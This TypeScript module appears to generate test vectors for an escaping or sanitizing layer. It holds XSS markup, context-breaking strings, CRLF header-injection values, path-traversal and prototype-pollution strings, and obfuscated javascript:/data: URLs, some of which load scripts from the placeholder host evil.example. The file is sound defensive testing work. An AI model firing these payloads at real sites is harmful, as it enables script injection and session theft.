/** Texts that try to break out of their context. */
export const textVectors: readonly string[] = attempts();

/** URLs that a link, a frame, a form or a redirect must not use unchanged, or that only look harmless. */
export const addressVectors: readonly string[] = addresses();

/** Returns a text without special characters. */
export function harmless(text: string): string {
  return text.replace(/[^\p{L}\p{N}\s]/gu, 'x');
}

/** Joins vectors into as few strings as possible, so that each field gets all of them. */
export function gathered(vectors: readonly string[], room: number): string[] {
  const strings: string[] = [];
  for (const vector of vectors) {
    const last = strings.at(-1);
    if (last === undefined || last.length + vector.length + 1 > room) strings.push(vector);
    else strings[strings.length - 1] = `${last} ${vector}`;
  }
  return strings;
}

function attempts(): string[] {
  const run = 'window.__pwned=1';
  const markup = [
    `<script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script src=//evil.example/x.js></script>`,
    `<script type=module>${run}</script>`,
    `<script type=speculationrules>{"prerender":[{"urls":["//evil.example"]}]}</script>`,
    `<script type=importmap>{"imports":{"a":"//evil.example"}}</script>`,
    `<img src=x onerror=${run}>`,
    `<img srcset=//evil.example/x>`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${run}>">`,
    `<math><mtext><mglyph><style><!--</style><img src=x onerror=${run}>`,
    `<iframe srcdoc="<script>${run}</script>">`,
    `<iframe src=javascript:${run}>`,
    `<object data=javascript:${run}>`,
    `<embed src=javascript:${run}>`,
    `<base href=//evil.example/>`,
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<meta http-equiv=Content-Security-Policy content="script-src *">`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<link rel=import href=//evil.example>`,
    `<style>@import '//evil.example'</style>`,
    `<form action=javascript:${run}><button>x</button></form>`,
    `<button formaction=javascript:${run}>x</button>`,
    `<a href=javascript:${run}>x</a>`,
    `<details open ontoggle=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<video><source onerror=${run}>`,
    `<body onload=${run}>`,
    `<template><img src=x onerror=${run}></template>`,
    `<template shadowrootmode=open><script>${run}</script></template>`,
    `<dialog open data-open-after=0>x</dialog>`,
    `<div data-island=form data-on=load data-props={}>x</div>`,
    `<slot data-in=b></slot>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<plaintext>`,
    `<select><option></select>`,
    `x onmouseover=${run} x`,
    `x style=position:fixed x`,
  ];
  const outOf = ['', '"', "'", '`', '">', "'>", '</script>', '</style></title></textarea>', '--!>', ']]>'];
  const characters = [
    '\u0000',
    '\u0000<img src=x onerror=alert(1)>',
    'a\r\nSet-Cookie: x=1',
    'a\r\n\r\n<script>alert(1)</script>',
    'a\nLocation: https://evil.example',
    'a\n/*\n  Content-Security-Policy: script-src *',
    'a\u2028b\u2029c',
    'a\u0085b\u00a0c\ufeffd',
    '\u202etxt.exe\u202c',
    '\u2066\u2067\u2068abc\u2069',
    '\u200b\u200c\u200d\u200e\u200f\u061c',
    '\ud800',
    'x\udc00x',
    '\ufffe\uffff',
    '\uE000city\uE001<b>\uE002',
    '\uE000" onload="x\uE001y\uE002',
    '\uE000\uE001\uE002\uE000',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '<!--',
    '-->',
    '<!-- x --!> y',
    '<!doctype x>',
    '<?xml version="1.0"?>',
    '<![CDATA[x]]>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;',
    '&NewLine;&Tab;&colon;',
    '\\u003cscript\\u003e',
    '\\x3cscript\\x3e',
    '%3Cscript%3E',
    '+ADw-script+AD4-',
    '"}]}</script><script>alert(1)</script>',
    '","__proto__":{"x":1},"y":"',
    "'-alert(1)-'",
    '$' + '{alert(1)}',
    '$&$1$`',
    '#{alert(1)} <%= alert(1) %>',
    '}*{background:url(//evil.example)}',
    'expression(alert(1)); @import url(//evil.example)',
    '\\"; return 302 https://evil.example; #',
    ');alert(1)//',
    '; script-src * data:',
    '*/*.js',
    '../../../etc/passwd',
    '__proto__',
    'constructor',
  ];
  return [...new Set([...outOf.flatMap((out) => markup.map((text) => out + text)), ...characters])];
}

function addresses(): string[] {
  const schemes = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    'filesystem:https://evil.example/x',
    'about:blank',
    'view-source:https://evil.example',
    'ws://evil.example',
    'ftp://evil.example',
    'intent://evil#Intent;end',
    'feed:javascript:alert(1)',
    'jar:https://evil.example!/x',
    'livescript:alert(1)',
    'mocha:alert(1)',
  ];
  const before = [
    '',
    ' ',
    '\t',
    '\n',
    '\r\n',
    '\u0000',
    '\u0001',
    '\u001f',
    '\u00a0',
    '\u2028',
    '\ufeff',
    '\u202e',
    '\u200b',
    '"',
    "'",
    '<',
  ];
  const inside = schemes
    .slice(0, 3)
    .flatMap((address) =>
      ['\t', '\n', '\r', '\u0000', '\u00ad', '\u200d'].map(
        (character) => address.slice(0, 4) + character + address.slice(4),
      ),
    );
  const others = [
    '//evil.example',
    '///evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    '/\t/evil.example',
    '/\n/evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:\\\\evil.example',
    'https://',
    'https://a;sandbox/x',
    'https://a,default-src/x',
    "https://a'unsafe-inline'/x",
    'https://*/x',
    'https://*.evil.example/x',
    'https://$host/x',
    'https://user:password@evil.example/',
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/' onmouseover='alert(1)",
    'https://evil.example/\u2028x',
    'https://evil.example/\r\nSet-Cookie:x=1',
    'https://evil.example/ 200',
    'https://evil.example/\ud800',
    '/\ud800',
    '/x\r\nSet-Cookie: a=b',
    '/x%0d%0aSet-Cookie:%20a=b',
    '/x"onclick="alert(1)',
    '/<script>alert(1)</script>',
    '/../../etc/passwd',
    '/%2e%2e/%2e%2e/etc',
    '/a?b=</script><script>alert(1)</script>',
    '/a#"><img src=x onerror=alert(1)>',
    '#"><img src=x onerror=alert(1)>',
    '#\u2028',
    'javascript&colon;alert(1)',
    'java&#115;cript:alert(1)',
    '%6aavascript:alert(1)',
    '{{query "x" "javascript:alert(1)"}}',
    "{{query 'city' 'javascript:alert(1)'}}",
    '\uE000x\uE001javascript:alert(1)\uE002',
    'tel:+1;ext=<script>',
    'mailto:a@b.example?body=%0aBcc:x',
    'sms:+1?body="><script>',
  ];
  return [
    ...new Set([...before.flatMap((prefix) => schemes.map((address) => prefix + address)), ...inside, ...others]),
  ];
}
